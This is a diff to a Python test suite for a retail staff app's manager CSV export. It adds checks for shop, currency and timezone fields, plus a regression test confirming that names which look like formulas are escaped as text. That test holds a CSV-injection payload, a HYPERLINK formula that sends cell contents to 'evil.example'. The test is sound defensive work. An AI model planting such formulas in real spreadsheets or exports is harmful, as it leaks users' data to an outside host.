@@ -113,6 +113,22 @@ def test_the_csv_holds_the_same_figures(manager, milano, giulia):
     assert sum(1 for r in rows if r and r[0] == "stock_alert") == 1
     assert sum(1 for r in rows if r and r[0] == "till") == 1
     assert sum(1 for r in rows if r and r[0] == "return") == 1
+    late = next(r for r in rows if r and r[0] == "late_pickup")
+    assert late[2] == "Milano Centro" and late[5] == "EUR"  # shop and currency
+    assert late[6].endswith(("+01:00", "+02:00"))  # the shops' clock, as on the page
+
+
+def test_the_csv_writes_a_name_that_looks_like_a_formula_as_text(
+    manager, milano, giulia
+):
+    giulia.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"Giulia")'
+    giulia.save()
+    a_day_at(milano, giulia)
+    response = manager.get(reverse("staff:manager_day_csv"))
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    labels = [r[1] for r in rows if r and r[0] == "associate"]
+    assert any(label.startswith("'=HYPERLINK(") for label in labels), labels
+    assert not any(label.startswith("=") for label in labels)
 
 
 def test_hq_sees_every_shop_or_one(client, milano, torino, giulia):
